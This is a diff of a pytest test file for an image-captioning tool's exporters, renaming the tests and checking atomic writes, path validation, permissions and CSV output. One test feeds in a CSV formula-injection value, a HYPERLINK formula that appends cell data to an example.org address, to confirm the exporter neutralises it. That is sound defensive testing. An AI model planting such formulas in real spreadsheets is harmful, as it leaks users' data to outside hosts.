@@ -1,4 +1,4 @@
-"""The files that a batch writes: whole, readable by what they are for, safe to open."""
+"""The output files of a batch: written as a whole, in every format, safe to open."""
 
 import csv
 import json
@@ -20,7 +20,8 @@ from image_describer.captioner.description import (
     Word,
 )
 from image_describer.errors import ImageDescriberError
-from image_describer.library.exporters import write
+from image_describer.library import exporters
+from image_describer.library.exporters import csv as csv_exporter
 from image_describer.library.record import Record
 
 DOG = Description(
@@ -37,12 +38,12 @@ BROKEN = "That file is not a picture I can open: it is empty."
 
 
 def described(file: str, caption: str = DOG.caption) -> Record:
-    """The record of a picture of a dog."""
+    """A described picture."""
     return Record(file, "ab" * 32, Description(caption, 0.8, file=file, width=640, height=480))
 
 
 def a_batch(folder: Path) -> list[Record]:
-    """One described, one broken, one with an odd name."""
+    """A described picture, one with an error, and one with an odd name."""
     return [
         Record(f"{folder}/dog.jpg", "ab" * 32, DOG),
         Record(f"{folder}/empty.jpg", "", error=BROKEN),
@@ -50,9 +51,9 @@ def a_batch(folder: Path) -> list[Record]:
     ]
 
 
-def test_lines_of_json_say_everything(tmp_path):
+def test_jsonl_has_every_field(tmp_path):
     target = tmp_path / "out.jsonl"
-    write.write(target, a_batch(tmp_path))
+    exporters.write(target, a_batch(tmp_path))
     lines = [json.loads(line) for line in target.read_text("utf-8").splitlines()]
     assert [line["file"] for line in lines] == [
         f"{tmp_path}/dog.jpg",
@@ -71,11 +72,11 @@ def test_lines_of_json_say_everything(tmp_path):
     assert list(lines[1]) == list(lines[0]), "every line has the same fields"
 
 
-@pytest.mark.parametrize("suffix", write.SUFFIXES)
-def test_an_authors_alt_text_is_in_every_output(tmp_path, suffix):
+@pytest.mark.parametrize("suffix", exporters.SUFFIXES)
+def test_the_authors_alt_text_is_in_every_format(tmp_path, suffix):
     author = "Rex & Ann at the lake"
     target = tmp_path / f"out{suffix}"
-    write.write(target, [Record("/dog.jpg", "ab" * 32, replace(DOG, alt_text=author))])
+    exporters.write(target, [Record("/dog.jpg", "ab" * 32, replace(DOG, alt_text=author))])
     text = target.read_text("utf-8-sig")
     if suffix == ".jsonl":
         assert json.loads(text)["alt_text"] == author
@@ -86,15 +87,15 @@ def test_an_authors_alt_text_is_in_every_output(tmp_path, suffix):
         assert DOG.caption in text
 
 
-def test_a_table_is_read_as_it_was_written(tmp_path):
+def test_csv_round_trip(tmp_path):
     target = tmp_path / "out.csv"
-    write.write(target, a_batch(tmp_path))
+    exporters.write(target, a_batch(tmp_path))
     content = target.read_bytes()
-    assert content.startswith(b"\xef\xbb\xbffile,caption,"), "Excel needs the mark to see UTF-8"
+    assert content.startswith(b"\xef\xbb\xbffile,caption,"), "Excel recognizes UTF-8 by the mark"
     assert content.count(b"\r\n") == content.count(b"\n") == 4
     with target.open(encoding="utf-8-sig", newline="") as file:
         rows = list(csv.DictReader(file))
-    assert tuple(rows[0]) == write.COLUMNS
+    assert tuple(rows[0]) == csv_exporter.COLUMNS
     assert rows[0]["notes"] == "The picture is very dark. The picture is blurred."
     assert (rows[0]["width"], rows[0]["height"], rows[0]["confidence"]) == ("640", "480", "0.823")
     assert rows[1]["error"] == BROKEN
@@ -103,41 +104,41 @@ def test_a_table_is_read_as_it_was_written(tmp_path):
 
 
 @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "＝"])
-def test_no_cell_is_a_formula(tmp_path, start):
+def test_no_csv_cell_is_a_formula(tmp_path, start):
     target = tmp_path / "out.csv"
     evil = f'{start}HYPERLINK("http://example.org?"&A1)'
     caption = described(evil, evil)
-    write.write(target, [caption, Record(evil, "", error=evil)])
+    exporters.write(target, [caption, Record(evil, "", error=evil)])
     with target.open(encoding="utf-8-sig", newline="") as file:
         for row in csv.reader(file):
-            assert not [cell for cell in row if cell.startswith(write.FORMULA_STARTS)]
+            assert not [cell for cell in row if cell.startswith(csv_exporter.FORMULA_STARTS)]
 
 
-@pytest.mark.parametrize("suffix", write.SUFFIXES)
-def test_what_was_there_stays_when_writing_fails(tmp_path, suffix):
-    def breaks() -> Iterator[Record]:
+@pytest.mark.parametrize("suffix", exporters.SUFFIXES)
+def test_the_old_file_stays_if_writing_fails(tmp_path, suffix):
+    def interrupted() -> Iterator[Record]:
         yield described("/a.jpg")
         raise KeyboardInterrupt
 
     target = tmp_path / f"out{suffix}"
-    write.write(target, [described("/before.jpg")])
+    exporters.write(target, [described("/before.jpg")])
     before = target.read_bytes()
     with pytest.raises(KeyboardInterrupt):
-        write.write(target, breaks())
+        exporters.write(target, interrupted())
     assert target.read_bytes() == before
     assert os.listdir(tmp_path) == [target.name]
 
 
-@pytest.mark.parametrize("suffix", write.SUFFIXES)
-def test_a_full_disk_is_a_sentence(tmp_path, suffix):
+@pytest.mark.parametrize("suffix", exporters.SUFFIXES)
+def test_a_full_disk_is_reported(tmp_path, suffix):
     code = (
         "import resource, signal, sys\n"
-        "from image_describer.library.exporters import write as outputs\n"
-        "from tests.library.exporters.test_write import described\n"
+        "from image_describer.library import exporters\n"
+        "from tests.library.exporters.test_exporters import described\n"
         "signal.signal(signal.SIGXFSZ, signal.SIG_IGN)\n"
         "resource.setrlimit(resource.RLIMIT_FSIZE, (20_000, 20_000))\n"
-        "try: outputs.write(sys.argv[1], [described(f'/{i}.jpg') for i in range(1_000)])\n"
-        "except outputs.OutputError as error: print(error)"
+        "try: exporters.write(sys.argv[1], [described(f'/{i}.jpg') for i in range(1_000)])\n"
+        "except exporters.OutputError as error: print(error)"
     )
     target = tmp_path / f"out{suffix}"
     done = subprocess.run(
@@ -151,12 +152,12 @@ def test_a_full_disk_is_a_sentence(tmp_path, suffix):
     assert os.listdir(tmp_path) == []
 
 
-@pytest.mark.parametrize("suffix", write.SUFFIXES)
-def test_many_pictures_take_no_more_memory_than_few(tmp_path, suffix):
+@pytest.mark.parametrize("suffix", exporters.SUFFIXES)
+def test_memory_does_not_grow_with_the_number_of_records(tmp_path, suffix):
     def peak(pictures: int) -> int:
         target = tmp_path / f"{pictures}{suffix}"
         tracemalloc.start()
-        write.write(target, (described(f"{tmp_path}/{i}.jpg") for i in range(pictures)))
+        exporters.write(target, (described(f"{tmp_path}/{i}.jpg") for i in range(pictures)))
         found = tracemalloc.get_traced_memory()[1]
         tracemalloc.stop()
         return found
@@ -165,7 +166,7 @@ def test_many_pictures_take_no_more_memory_than_few(tmp_path, suffix):
 
 
 @pytest.mark.parametrize(
-    ("name", "said"),
+    ("name", "message"),
     [
         ("out.txt", "has to end in .jsonl, .csv or .html"),
         ("out", "has to end in .jsonl, .csv or .html"),
@@ -175,43 +176,43 @@ def test_many_pictures_take_no_more_memory_than_few(tmp_path, suffix):
         ("pipe.csv", "a device or a pipe"),
         ("file.csv/out.csv", "can't be written|there is no folder"),
         ("x" * 300 + ".csv", "File name too long"),
-        ("nul\0.csv", "no valid name"),
+        ("nul\0.csv", "not a valid name"),
     ],
 )
-def test_a_place_that_will_not_do_is_told_before_any_work(tmp_path, name, said):
+def test_an_unusable_path_is_refused_before_any_work(tmp_path, name, message):
     (tmp_path / "folder.csv").mkdir()
     os.mkfifo(tmp_path / "pipe.csv")
     (tmp_path / "file.csv").write_text("")
-    place = f"{tmp_path}/{name}" if name else ""
-    with pytest.raises(ImageDescriberError, match=said):
-        write.check(place)
-    with pytest.raises(ImageDescriberError, match=said):
-        write.write(place, [])
+    path = f"{tmp_path}/{name}" if name else ""
+    with pytest.raises(ImageDescriberError, match=message):
+        exporters.check(path)
+    with pytest.raises(ImageDescriberError, match=message):
+        exporters.write(path, [])
 
 
-def test_a_folder_without_permission_is_told_before_any_work():
-    # Not even root may make files here.
+def test_a_folder_without_permission_is_refused_before_any_work():
+    # Not even root can create files here.
     with pytest.raises(ImageDescriberError, match=r"can't be written: .*[^.]\. Make room"):
-        write.check("/proc/out.csv")
+        exporters.check("/proc/out.csv")
 
 
-def test_checking_leaves_nothing_behind(tmp_path):
+def test_check_leaves_no_file(tmp_path):
     for suffix in (".csv", ".JSONL", ".Html"):
-        write.check(tmp_path / f"{'n' * 240}{suffix}")
+        exporters.check(tmp_path / f"{'n' * 240}{suffix}")
     assert os.listdir(tmp_path) == []
 
 
-def test_permissions_and_links_stay(tmp_path):
+def test_permissions_and_links_are_kept(tmp_path):
     target, link = tmp_path / "real.csv", tmp_path / "link.csv"
     before = os.umask(0o027)
     try:
-        write.write(target, [])
+        exporters.write(target, [])
     finally:
         os.umask(before)
     assert stat.S_IMODE(target.stat().st_mode) == 0o640
     target.chmod(0o604)
     link.symlink_to(target)
-    write.write(link, [described("/a.jpg")])
+    exporters.write(link, [described("/a.jpg")])
     assert link.is_symlink()
     assert b"/a.jpg" in target.read_bytes()
     assert stat.S_IMODE(target.stat().st_mode) == 0o604
